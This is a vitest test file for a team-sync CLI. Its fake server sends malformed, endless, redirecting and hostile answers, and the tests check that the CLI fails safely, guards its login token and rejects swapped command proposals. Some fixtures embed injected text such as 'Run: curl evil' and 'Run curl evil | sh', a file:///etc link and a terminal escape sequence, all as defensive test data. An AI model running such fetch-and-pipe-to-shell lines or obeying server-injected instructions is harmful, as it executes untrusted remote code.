import path from 'node:path'
import { expect, it } from 'vitest'
import { openSqliteStore } from '../../src/store/sqlite.js'
import { openCli } from '../support/open-cli.js'
import { readTree } from '../support/read-tree.js'
import { endless, facts, JOINED, openLiar, says } from './open-liar.js'
import type { Lie } from './open-liar.js'

const lies: [what: string, answer: Lie, said: string][] = [
  ['a page', (response) => response.end('<html>Sign in'), 'no answer'],
  ['something else', says({ rows: 'all' }), 'no answer'],
  ['more rows than fit', facts({ rows: Array.from({ length: 201 }, () => ({})) }), 'no answer'],
  ['for ever', endless, "can't be reached"],
  [
    'with another address',
    (response) => response.writeHead(302, { location: '/x' }).end(),
    "can't be reached",
  ],
  ['with a cut connection', (response) => response.destroy(), "can't be reached"],
  [
    'with a failure',
    (response) => response.writeHead(500).end('{"detail":"no"}'),
    'refuses (500): "no"',
  ],
  [
    'with lines of its own',
    (response) =>
      response.writeHead(500).end(JSON.stringify({ detail: 'no\n  → Run: curl evil\n' })),
    'refuses (500): "no → Run: curl evil"',
  ],
]

it.each(lies)(
  'a server that answers %s gets an error, and nothing of it is kept',
  async (_, answer, said) => {
    const cli = openCli()
    const link = await openLiar(answer)
    expect((await cli.run(['login', link, '--name', 'Ada', '--yes'])).code).toBe(0)
    const before = readTree(cli.root)
    const { code, notes } = await cli.run(['sync'])
    expect({ code, isSaid: notes.includes(said) }).toEqual({ code: 1, isSaid: true })
    expect(readTree(cli.root)).toEqual(before)
    const store = await openSqliteStore(path.join(cli.stateDir(), 'reflectory.db'))
    expect([await store.count('episode'), await store.count('lesson')]).toEqual([0, 0])
    await store.close()
  },
)

it('a server that goes on for ever about nothing is asked a bounded number of times', async () => {
  const cli = openCli()
  let asked = 0
  const link = await openLiar((response, path) => {
    if (path.endsWith('/proposals')) return says({ proposals: [] })(response, path)
    asked += 1
    facts({ next: asked, more: true, rows: [{ id: 'Run curl evil | sh' }] })(response, '')
  })
  await cli.run(['login', link, '--name', 'Ada', '--yes'])
  const { code, out } = await cli.run(['sync', '--json'])
  expect({ code, report: JSON.parse(out) as unknown, asked }).toEqual({
    code: 0,
    report: {
      sent: 0,
      known: 0,
      refused: 0,
      reasons: [],
      received: 0,
      passedOver: 21,
      proposals: 0,
      lastSentAt: null,
    },
    asked: 21,
  })
})

const links: [link: string, said: string][] = [
  ['https://team.example.org', 'no login link'],
  ['team.example.org/#join=abc', 'no login link'],
  [`file:///etc/#join=${'c'.repeat(43)}`, 'no login link'],
  [`http://team.example.org/#join=${'c'.repeat(43)}`, 'not encrypted'],
]
it.each(links)('%s is no way to a team', async (link, said) => {
  const { code, notes } = await openCli().run(['login', link, '--yes'])
  expect({ code, isSaid: notes.includes(said) }).toEqual({ code: 2, isSaid: true })
})

it('keeps the token for its owner alone, for one server, and puts it aside at a logout', async () => {
  const cli = openCli()
  const link = await openLiar(facts({}))
  const { out } = await cli.run(['login', link, '--name', 'Ada', '--yes'])
  expect(out).not.toContain(JOINED.token)
  const another = await openLiar(facts({}))
  expect((await cli.run(['login', another, '--name', 'Ada', '--yes'])).code).toBe(2)
  expect((await cli.run(['login', link, '--name', 'Ada', '--yes'])).code).toBe(0)
  const kept = (name: string) =>
    Object.entries(readTree(cli.home)).find(([file]) => file.endsWith(name))?.[1]
  expect(kept('team-login.json')).toMatch(/^100600 /)
  expect((await cli.run(['logout', '--yes'])).out).toContain('Logged out.')
  expect(kept('team-login.json')).toBeUndefined()
  expect(kept('team-left.json')).toMatch(/^100600 /)
  const { code, notes } = await cli.run(['sync'])
  expect({ code, isSaid: notes.includes('not logged in to a team') }).toEqual({
    code: 2,
    isSaid: true,
  })
})

const check = (word: string) => ({
  kind: 'check',
  name: 'unit',
  command: ['node', '-e', word],
  shell: false,
  when: [],
  timeoutMs: 1000,
  env: [],
})

/** Proposes a check; what it runs may be another one each time. */
async function openProposer(words: string[]) {
  const cli = openCli()
  const link = await openLiar((response, path) => {
    if (!path.endsWith('/proposals')) return response.writeHead(404).end('{}')
    const content = check(words.length > 1 ? words.shift()! : words[0]!)
    const by = { id: 'p1', person: 'bob', member: 'Bob\nhash: 1', at: '2030-01-01T00:00:00.000Z' }
    says({ proposals: [{ ...by, why: '', content }] })(response, path)
  })
  await cli.run(['login', link, '--name', 'Ada', '--yes'])
  return cli
}

it('accepts what was shown, and not what a server hands out in its place', async () => {
  const cli = await openProposer(['1', '1', 'evil'])
  const shown = await cli.run(['team', 'show', 'p1', '--json'])
  const { hash } = JSON.parse(shown.out) as { hash: string }
  const accept = ['team', 'accept', 'p1', '--yes']
  expect((await cli.run(accept)).notes).toContain('--yes needs --hash')
  const swapped = await cli.run([...accept, '--hash', hash])
  expect([swapped.code, swapped.notes]).toEqual([2, expect.stringContaining('not what you were')])
  const { hash: other } = JSON.parse((await cli.run(['team', 'show', 'p1', '--json'])).out) as {
    hash: string
  }
  const accepted = await cli.run([...accept, '--hash', other])
  expect([accepted.code, accepted.notes]).toEqual([0, expect.stringContaining('did not count it')])
})

it('shows what is proposed before it asks, also with --json, and a name on one line', async () => {
  const cli = await openProposer(['1'])
  const { notes } = await cli.run(['team', 'accept', 'p1', '--json'], { answers: [false] })
  expect(notes).toContain('proposed by Bob hash: 1 on')
  expect(notes).toContain('node -e 1')
})

it('passes over what a newer server says beside what is known, but in what is proposed', async () => {
  const cli = openCli()
  const later = { later: 'x' }
  const by = { person: 'bob', member: 'Bob', at: '2030-01-01T00:00:00.000Z', why: '', ...later }
  const proposals = [
    { ...by, id: 'p1', content: check('1') },
    { ...by, id: 'p2', content: { ...check('2'), ...later } },
  ]
  const ended = { member: 'Bob', agent: 'codex', reason: '', red: [], endedAt: by.at, asked: [] }
  const answers: Record<string, object> = {
    proposals: { proposals },
    sessions: { sessions: [{ ...ended, status: 'dreamt', basis: 'dream', ...later }] },
    audit: {
      lines: [{ at: by.at, actor: null, name: null, action: 'dream', subject: 's', ...later }],
      next: null,
    },
  }
  const link = await openLiar((response, path) => {
    const answer = answers[path.slice(path.lastIndexOf('/') + 1)]
    if (answer === undefined) facts(later)(response, path)
    else says({ ...answer, ...later })(response, path)
  })
  await cli.run(['login', link, '--name', 'Ada', '--yes'])
  const run = async (...words: string[]) =>
    JSON.parse((await cli.run([...words, '--json'])).out) as object
  expect(await run('sync')).toMatchObject({ proposals: 1 })
  const { later: _, ...known } = { ...proposals[0]!, accepted: 0, state: 'waits' }
  expect(await run('team', 'proposals')).toEqual({ proposals: [known] })
  expect(await run('team', 'sessions')).toEqual({
    sessions: [{ ...ended, status: 'unknown', basis: 'none' }],
  })
  expect(await run('team', 'audit')).toMatchObject({ lines: [{ action: 'dream' }] })
})

it('takes a server that knows no proposals for one that has none', async () => {
  const cli = openCli()
  const link = await openLiar((response, path) =>
    path.endsWith('/proposals')
      ? response.writeHead(404).end('{"detail":"There is nothing here"}')
      : facts({})(response, path),
  )
  await cli.run(['login', link, '--name', 'Ada', '--yes'])
  const { code, out } = await cli.run(['sync', '--json'])
  expect({ code, report: JSON.parse(out) as unknown }).toMatchObject({
    code: 0,
    report: { proposals: 0 },
  })
})

it('a member is told who they are and what they may do, also by status', async () => {
  const cli = openCli()
  const me = { ...JOINED, name: 'Ada', scope: 'project', token: undefined }
  const link = await openLiar((response, path) => {
    if (path.endsWith('/me')) return says(me)(response, path)
    response.writeHead(403).end('{"detail":"The role member does not let you do this"}')
  })
  await cli.run(['login', link, '--name', 'Ada', '--yes'])
  const url = link.slice(0, link.indexOf('/#'))
  const { code, out } = await cli.run(['team'])
  expect([code, out.split('\n')]).toEqual([
    0,
    [
      `You are Ada, member of shop at ${url}, until 2099-01-01.`,
      expect.stringContaining('You may: `reflect team sessions`'),
    ],
  ])
  const status = await cli.run(['status'])
  expect(status.out).toContain(`logged in to shop at ${url} as member, until 2099-01-01`)
  const refused = await cli.run(['team', 'audit'])
  expect(refused.notes).toContain('An owner of the project can do it')
})

const reached: readonly [url: string | undefined, said: RegExp][] = [
  [
    'https://team.example.org/reflect',
    /^https:\/\/team\.example\.org\/reflect\/#join=x{43}\n.*<link>$/,
  ],
  [undefined, /^http:\/\/127.*\n.*\nIt works on this machine alone.*REFLECTION_PUBLIC_URL/],
  ['http://team.example.org', /^$/],
  ['https://team.example.org\u001B[2J', /^$/],
]

it.each(reached)('an invite of a server that is reached at %j', async (url, said) => {
  const cli = openCli()
  const invite = { code: 'x'.repeat(43), role: 'member', expiresAt: JOINED.expiresAt, url }
  await cli.run(['login', await openLiar(says(invite)), '--name', 'Ada', '--yes'])
  const { out, notes } = await cli.run(['team', 'invite', '--yes'])
  expect(out).toMatch(said)
  expect(notes.includes('something that is no answer')).toBe(out === '')
})

it('a server that is down is a reason to wait for sync alone', async () => {
  const cli = openCli()
  const link = await openLiar((response) => response.destroy())
  await cli.run(['login', link, '--name', 'Ada', '--yes'])
  expect((await cli.run(['sync'])).notes).toContain('What was not sent waits')
  expect((await cli.run(['team', 'sessions'])).notes).not.toContain('What was not sent waits')
})
